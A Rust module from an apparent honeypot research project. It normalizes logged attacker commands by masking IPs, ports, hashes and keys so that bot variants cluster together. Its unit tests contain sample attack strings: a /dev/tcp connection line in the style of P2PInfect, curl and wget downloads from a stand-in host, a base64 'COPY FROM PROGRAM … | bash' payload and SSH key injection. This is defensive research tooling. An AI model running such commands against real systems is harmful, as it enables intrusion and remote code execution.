//! Action normalization for TF clustering (§6.1).
//!
//! The paper's clustering treats `DELETE /tmp/hash1` and `DELETE /tmp/hash2`
//! as the same action: volatile parameters — file hashes, IP addresses,
//! ports, long random tokens — are masked before term-frequency
//! vectorization so that bot-script variants land in the same cluster. This
//! module implements that masking as a small hand-rolled tokenizer (no regex
//! dependency): honeypots call [`normalize_action`] when logging commands.

/// Mask volatile tokens in a rendered command.
///
/// Replacements (mirroring the paper's listings):
/// * IPv4 literals → `<IP>` (an attached `:port` is folded into the mask)
/// * standalone port-like integers of 2+ digits → `<N>`
/// * hex strings of 8+ chars → `<HASH>`
/// * base64-ish blobs of 24+ chars → `<CODE>`
/// * `ssh-rsa <key>` material → `ssh-rsa <KEY>`
pub fn normalize_action(raw: &str) -> String {
    let mut out: Vec<String> = Vec::new();
    let mut prev_was_ssh_rsa = false;
    for token in raw.split_whitespace() {
        let masked = if prev_was_ssh_rsa {
            prev_was_ssh_rsa = false;
            "<KEY>".to_string()
        } else {
            mask_token(token)
        };
        if masked == "ssh-rsa" {
            prev_was_ssh_rsa = true;
        }
        out.push(masked);
    }
    out.join(" ")
}

/// Mask one whitespace-delimited token.
fn mask_token(token: &str) -> String {
    // Split a trailing path off URLs so the host part can be masked:
    // http://1.2.3.4:8080/ff.sh → http://<IP>/ff.sh
    if let Some(rest) = token.strip_prefix("http://") {
        return format!("http://{}", mask_host_path(rest));
    }
    if let Some(rest) = token.strip_prefix("https://") {
        return format!("https://{}", mask_host_path(rest));
    }
    if let Some(ip_end) = ipv4_prefix_len(token) {
        // fold ":port" into the mask when present
        let rest = token.get(ip_end..).unwrap_or_default();
        if let Some(port_rest) = rest.strip_prefix(':') {
            let after_port = port_rest.trim_start_matches(|c: char| c.is_ascii_digit());
            return format!("<IP>{after_port}");
        }
        return format!("<IP>{rest}");
    }
    // path segments: mask hex-y file names and embedded addresses,
    // e.g. /tmp/8f14e45f... or /dev/tcp/1.2.3.4/8080
    if token.contains('/') {
        let masked: Vec<String> = token.split('/').map(mask_segment).collect();
        return masked.join("/");
    }
    mask_segment(token)
}

fn mask_host_path(rest: &str) -> String {
    let path_start = rest.find('/').unwrap_or(rest.len());
    let (host, path) = rest.split_at_checked(path_start).unwrap_or((rest, ""));
    let host_masked = if ipv4_prefix_len(host.split(':').next().unwrap_or(host))
        == Some(host.split(':').next().unwrap_or(host).len())
    {
        "<IP>".to_string()
    } else {
        host.to_string()
    };
    format!("{host_masked}{path}")
}

/// Mask one path segment or bare word: IPv4 first, then plain masking.
fn mask_segment(token: &str) -> String {
    if ipv4_prefix_len(token) == Some(token.len()) {
        return "<IP>".to_string();
    }
    mask_plain(token)
}

fn mask_plain(token: &str) -> String {
    if token.is_empty() {
        return String::new();
    }
    // Mask the core of tokens carrying trailing/leading punctuation, e.g.
    // `deadbeefcafe1234;` or `table(name` — SQL campaigns glue hashes to
    // syntax characters.
    const PUNCT: &[char] = &[';', ',', '(', ')', '\'', '"', '`'];
    if token.contains(PUNCT) {
        let mut out = String::with_capacity(token.len());
        let mut core = String::new();
        for c in token.chars() {
            if PUNCT.contains(&c) {
                if !core.is_empty() {
                    out.push_str(&mask_core(&core));
                    core.clear();
                }
                out.push(c);
            } else {
                core.push(c);
            }
        }
        if !core.is_empty() {
            out.push_str(&mask_core(&core));
        }
        return out;
    }
    mask_core(token)
}

fn mask_core(token: &str) -> String {
    if token.is_empty() {
        return String::new();
    }
    let len = token.len();
    let hex_chars = token.chars().filter(|c| c.is_ascii_hexdigit()).count();
    if len >= 8 && hex_chars == len {
        return "<HASH>".to_string();
    }
    if len >= 2 && token.chars().all(|c| c.is_ascii_digit()) {
        return "<N>".to_string();
    }
    let b64_chars = token
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
        .count();
    if len >= 24
        && b64_chars == len
        && token.chars().any(|c| c.is_ascii_uppercase())
        && token.chars().any(|c| c.is_ascii_lowercase())
        && token
            .chars()
            .any(|c| c.is_ascii_digit() || c == '=' || c == '+')
    {
        return "<CODE>".to_string();
    }
    token.to_string()
}

/// Length of a leading IPv4 literal in `token`, if the token starts with one.
fn ipv4_prefix_len(token: &str) -> Option<usize> {
    let bytes = token.as_bytes();
    let mut idx = 0;
    for octet in 0..4 {
        let digits = bytes.get(idx..).unwrap_or_default();
        let digits = digits.iter().take(3).take_while(|b| b.is_ascii_digit());
        let (mut value, mut width) = (0u32, 0);
        for digit in digits {
            value = value * 10 + u32::from(digit - b'0');
            width += 1;
        }
        if width == 0 || value > 255 {
            return None;
        }
        idx += width;
        if octet < 3 {
            if bytes.get(idx) != Some(&b'.') {
                return None;
            }
            idx += 1;
        }
    }
    // a trailing '.' or digit means this was not a 4-octet address
    if bytes
        .get(idx)
        .is_some_and(|b| *b == b'.' || b.is_ascii_digit())
    {
        return None;
    }
    Some(idx)
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_base::rng::{for_all, Rng};

    #[test]
    fn masks_ipv4_and_ports() {
        assert_eq!(
            normalize_action("SLAVEOF 203.0.113.9 8886"),
            "SLAVEOF <IP> <N>"
        );
        assert_eq!(
            normalize_action("connect 10.1.2.3:4444 now"),
            "connect <IP> now"
        );
        assert_eq!(normalize_action("GET 1.2.3.4.5"), "GET 1.2.3.4.5"); // 5 octets: not an IP... host part
    }

    #[test]
    fn masks_hashes_in_paths() {
        assert_eq!(
            normalize_action("chmod +x /tmp/8f14e45fceea167a"),
            "chmod +x /tmp/<HASH>"
        );
        assert_eq!(
            normalize_action("DELETE /tmp/deadbeef01"),
            "DELETE /tmp/<HASH>"
        );
        // short hex survives
        assert_eq!(normalize_action("GET cafe"), "GET cafe");
    }

    #[test]
    fn p2pinfect_variants_normalize_identically() {
        // Listing 1's injected command differs only in hash / ip / port.
        let a = normalize_action(
            "exec 6<>/dev/tcp/198.51.100.1/8080 && cat 0<&6 >/tmp/0123456789abcdef",
        );
        let b = normalize_action(
            "exec 6<>/dev/tcp/198.51.100.2/9090 && cat 0<&6 >/tmp/fedcba9876543210",
        );
        assert_eq!(a, b);
    }

    #[test]
    fn urls_keep_path_mask_host() {
        assert_eq!(
            normalize_action("curl -o /tmp/sss6 http://203.0.113.4:9999/sss6"),
            "curl -o /tmp/sss6 http://<IP>/sss6"
        );
        assert_eq!(
            normalize_action("wget http://evil.example/ff.sh"),
            "wget http://evil.example/ff.sh"
        );
    }

    #[test]
    fn ssh_keys_are_masked() {
        let out = normalize_action("set x ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB root@localhost");
        assert_eq!(out, "set x ssh-rsa <KEY> root@localhost");
    }

    #[test]
    fn base64_payloads_masked() {
        let out = normalize_action(
            "COPY t FROM PROGRAM echo aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ= | bash",
        );
        assert!(out.contains("<CODE>"), "{out}");
        assert!(out.starts_with("COPY t FROM PROGRAM echo"));
    }

    #[test]
    fn hashes_with_punctuation_are_masked() {
        assert_eq!(
            normalize_action("DROP TABLE IF EXISTS deadbeefcafe1234;"),
            "DROP TABLE IF EXISTS <HASH>;"
        );
        assert_eq!(
            normalize_action("CREATE TABLE deadbeefcafe1234(cmd_output text);"),
            "CREATE TABLE <HASH>(cmd_output text);"
        );
        assert_eq!(
            normalize_action("SELECT * FROM deadbeefcafe1234;"),
            "SELECT * FROM <HASH>;"
        );
    }

    #[test]
    fn plain_commands_pass_through() {
        for cmd in [
            "KEYS *",
            "INFO",
            "FLUSHDB",
            "CONFIG GET dir",
            "listDatabases",
        ] {
            assert_eq!(normalize_action(cmd), cmd);
        }
    }

    #[test]
    fn ipv4_prefix_detection() {
        assert_eq!(ipv4_prefix_len("1.2.3.4"), Some(7));
        assert_eq!(ipv4_prefix_len("255.255.255.255"), Some(15));
        assert_eq!(ipv4_prefix_len("256.1.1.1"), None);
        assert_eq!(ipv4_prefix_len("1.2.3"), None);
        assert_eq!(ipv4_prefix_len("a.b.c.d"), None);
        assert_eq!(ipv4_prefix_len("1.2.3.4:80"), Some(7));
    }

    #[test]
    fn masking_is_idempotent() {
        // printable ASCII, with multi-byte UTF-8 drawn next to IPv4
        // literals and `:port` suffixes, where the masker cuts the token
        let gen = |rng: &mut Rng| -> String {
            let len = rng.gen_range(0..=80);
            let mut s = String::new();
            for _ in 0..len {
                match rng.gen_range(0..10) {
                    0 => {
                        let mut octet = || rng.gen_range(0..=300u32);
                        let ip = format!("{}.{}.{}.{}", octet(), octet(), octet(), octet());
                        s.push_str(&ip);
                    }
                    1 => s.push_str(&format!(":{}", rng.gen_range(0..=70_000u32))),
                    2 => s.push(['é', '中', '😀', '\u{80}'][rng.gen_range(0..4usize)]),
                    _ => s.push(char::from(rng.gen_range(b' '..=b'~'))),
                }
            }
            s
        };
        for_all(0x3a5c, 256, gen, |input| {
            let once = normalize_action(input);
            assert_eq!(
                normalize_action(&once),
                once,
                "masking must be a projection"
            );
        });
    }
}
